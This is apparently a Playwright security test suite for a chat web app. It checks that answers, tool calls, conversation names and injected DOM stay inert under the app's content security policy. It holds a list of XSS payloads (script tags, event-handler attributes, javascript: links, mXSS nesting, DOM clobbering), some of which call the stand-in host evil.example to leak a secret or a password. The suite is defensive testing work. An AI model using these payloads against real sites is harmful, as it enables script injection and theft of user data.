"""Strangers' text on the page: what is in answers, questions, names and documents never becomes code."""

import re

import pytest
from playwright.async_api import expect

from tests.fakes.upstream import text_reply, tool_reply
from tests.web.browser.visitor import Visitor

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.usefixtures("database")]

ATTACKS = [
    "<script>window.owned = 1</script>",
    "<img src=x onerror='window.owned = 1'>",
    "<svg/onload=window.owned=1>",
    "<iframe srcdoc='<script>parent.owned = 1</script>'></iframe>",
    "<a href='javascript:window.owned=1'>raw link</a>",
    "[link one](javascript:window.owned=1)",
    "[link two](JaVaScRiPt&colon;window.owned=1)",
    "[link three](data:text/html,<script>window.owned=1</script>)",
    "[link four](vbscript:window.owned=1)",
    "[link five](//evil.example/path)",
    "![picture](x' onerror='window.owned=1)",
    "![spy](https://evil.example/spy.png?q=secret)",
    "<style>body { display: none }</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.owned=1></style></mglyph></math>",
    "```html\n<script>window.owned = 1</script>\n```",
    '```"onmouseover=window.owned=1 x\ncode\n```',
    "$$\n\\href{javascript:window.owned=1}{x} \\includegraphics{https://evil.example/a.png} \\htmlData{a=b}{c}\n$$",
    "\\(\\url{javascript:window.owned=1}\\)",
    "[ref]: javascript:window.owned=1\n\n[ref]",
    "<details open ontoggle=window.owned=1><summary>x</summary></details>",
    "<div id=root name=cookie class=dialog style='position:fixed'>clobber</div>",
    "\u202egnp.exe",
]


async def test_answers_questions_and_tools_stay_text(visitor: Visitor):
    page, asked = visitor.page, list[str]()
    page.on("request", lambda request: asked.append(request.url))
    text = "\n\n".join(ATTACKS)
    calls = tool_reply(("search_uploads", {"query": ATTACKS[1]}))
    visitor.upstream.script(calls, text_reply(text + "\n\nThe end.", size=7, thinking=ATTACKS[1]))
    await visitor.sign_in()
    await visitor.ask(ATTACKS[1] + ATTACKS[2])
    await visitor.answered("The end.")
    for _ in range(2):
        for step in await visitor.turn().locator(".step summary").all():
            await step.click()
        for link in await visitor.answer().locator("a").all():
            assert re.match(r"https?://|mailto:", await link.get_attribute("href") or "")
        await expect(visitor.answer().locator("script, iframe, form, input, style, img, svg[onload]")).to_have_count(0)
        events = "[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on')))"
        assert await page.evaluate(f"{events}.length") == 0
        assert await page.evaluate("window.owned") is None
        assert await page.evaluate("getComputedStyle(document.body).display") != "none"
        await visitor.shot("strangers-text")
        await page.reload()
        await visitor.answered("The end.")
    assert [url for url in asked if "evil.example" in url] == []


async def test_names_of_conversations_stay_text(visitor: Visitor):
    page, side = visitor.page, visitor.page.get_by_role("navigation")
    visitor.upstream.script(text_reply("Fine."))
    await visitor.sign_in()
    await visitor.ask("Name me")
    await visitor.answered("Fine.")
    await side.get_by_role("button", name="More about “Name me”").click()
    await page.get_by_role("menuitem", name="Rename").click()
    await page.get_by_label("Name of the conversation").fill(ATTACKS[1])
    await page.keyboard.press("Enter")
    await expect(side.get_by_role("link", name=ATTACKS[1])).to_be_visible()
    await page.reload()
    await expect(side.get_by_role("link", name=ATTACKS[1])).to_be_visible()
    await expect(page.get_by_role("heading", level=1)).to_have_text(ATTACKS[1])
    assert await page.evaluate("window.owned") is None


async def test_the_policy_stops_what_would_get_in(visitor: Visitor):
    await visitor.sign_in()
    add = "document.body.append(Object.assign(document.createElement('%s'), {%s: '%s'}))"
    for attempt in (
        add % ("script", "textContent", "window.owned = 1"),
        add % ("div", "innerHTML", "<img src=x onerror=window.owned=1>"),
        add % ("iframe", "srcdoc", "<script>parent.owned = 1<\\/script>"),
    ):
        await visitor.page.evaluate(attempt)
    blocked = await visitor.page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'blocked')")
    assert blocked == "blocked"
    assert await visitor.page.evaluate("window.owned") is None
    assert visitor.complaints
    assert all("Content Security Policy" in complaint for complaint in visitor.complaints)
    visitor.complaints.clear()
